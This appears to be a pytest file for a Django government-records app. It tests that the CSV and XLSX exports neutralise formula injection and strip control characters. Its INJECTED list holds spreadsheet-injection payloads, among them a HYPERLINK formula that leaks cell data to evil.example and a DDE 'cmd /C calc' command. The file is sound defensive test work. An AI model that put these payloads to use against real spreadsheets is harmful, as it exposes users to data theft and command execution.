"""Exports never hand a spreadsheet a formula that came from data: the catalogue export (CSV
and XLSX, re-imported unchanged), the dossier register XLSX and the quarterly report XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from dossiers.models import Dossier
from org.models import Unit
from procedures.models import ProcedureVersion
from tests.factories import published_procedure

from .world import World, client_as

pytestmark = pytest.mark.django_db

INJECTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
]


def _quiet() -> io.StringIO:
    return io.StringIO()


def _quarterly_report_xlsx(world: World, path) -> None:
    """The province's Q1 2021 report (form II.06a) written to ``path``."""
    call_command(
        "quarterly_report",
        "--year",
        "2021",
        "--quarter",
        "1",
        "--unit",
        world.province.code,
        "--format",
        "xlsx",
        "--output",
        str(path),
        stdout=_quiet(),
    )


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_catalogue_export_neutralises_formulas_and_re_imports_unchanged(db, tmp_path, suffix):
    for number, text in enumerate(INJECTED, start=1):
        published_procedure(code=f"3.00000{number}", name=text, legal_basis=text)
    path = tmp_path / f"catalogue.{suffix}"
    call_command("export_procedures", str(path), "--on", "2021-01-01", stdout=_quiet())

    if suffix == "csv":
        with path.open(encoding="utf-8", newline="") as handle:
            names = [row["name"] for row in csv.DictReader(handle)]
        assert sorted(names) == sorted("'" + text for text in INJECTED)
    else:
        sheet = load_workbook(path).worksheets[0]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert sorted(row[1].value for row in sheet.iter_rows(min_row=2)) == sorted(
            "'" + text for text in INJECTED
        )

    versions = ProcedureVersion.objects.count()
    out = io.StringIO()
    call_command("import_procedures", str(path), stdout=out)
    assert ProcedureVersion.objects.count() == versions
    assert sorted(ProcedureVersion.objects.values_list("name", flat=True)) == sorted(INJECTED)


def test_the_register_xlsx_neutralises_formulas(world: World):
    injected = INJECTED[0]
    Dossier.objects.filter(pk=world.own.dossier.pk).update(
        applicant_name=injected, applicant_address="@SUM(A1:A9)"
    )
    client = client_as(world, "desk")
    response = client.get(
        "/ho-so/so-theo-doi/", {"from": "2021-03-01", "to": "2021-03-31", "format": "xlsx"}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + injected in values
    # The register's column holds the address and the phone together (Mẫu 06 / 07).
    assert [value for value in values if str(value).startswith("'@SUM(A1:A9)")]


def test_the_quarterly_report_xlsx_never_runs_a_unit_name(world: World, tmp_path):
    injected = INJECTED[0]
    Unit.objects.filter(pk=world.own.unit.pk).update(name=injected)
    path = tmp_path / "q1.xlsx"
    _quarterly_report_xlsx(world, path)
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    # The totals are formulas of the report's own making; nothing of the data is.
    assert all("HYPERLINK" not in str(formula) for formula in formulas)
    assert "'" + injected in {cell.value for cell in cells}


# Stored before the entry points refused them (issue "reliability II"): a spreadsheet file
# cannot hold these, and one of them used to break every official XLSX it reached.
CONTROL = "Nguyễn\x1bVăn\x07 A\x08n"


def test_a_stored_control_character_never_breaks_an_export(world: World, tmp_path):
    Dossier.objects.filter(pk=world.own.dossier.pk).update(applicant_name=CONTROL)
    Unit.objects.filter(pk=world.own.unit.pk).update(name="UBND xã\x1b Lạc Đạo")
    ProcedureVersion.objects.filter(pk=world.own.dossier.procedure_version_id).update(
        name="Đăng ký\x07 khai sinh"
    )

    register = client_as(world, "desk").get(
        "/ho-so/so-theo-doi/", {"from": "2021-03-01", "to": "2021-03-31", "format": "xlsx"}
    )
    assert register.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(register.streaming_content))).worksheets[0]
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert "NguyễnVăn An" in values
    assert "Đăng ký khai sinh" in values

    report = tmp_path / "q1.xlsx"
    _quarterly_report_xlsx(world, report)
    names = {cell.value for ws in load_workbook(report) for row in ws.iter_rows() for cell in row}
    assert "UBND xã Lạc Đạo" in names

    catalogue = tmp_path / "catalogue.xlsx"
    call_command("export_procedures", str(catalogue), "--on", "2021-03-15", stdout=_quiet())
    rows = load_workbook(catalogue).worksheets[0].iter_rows(min_row=2, values_only=True)
    assert "Đăng ký khai sinh" in {row[1] for row in rows}
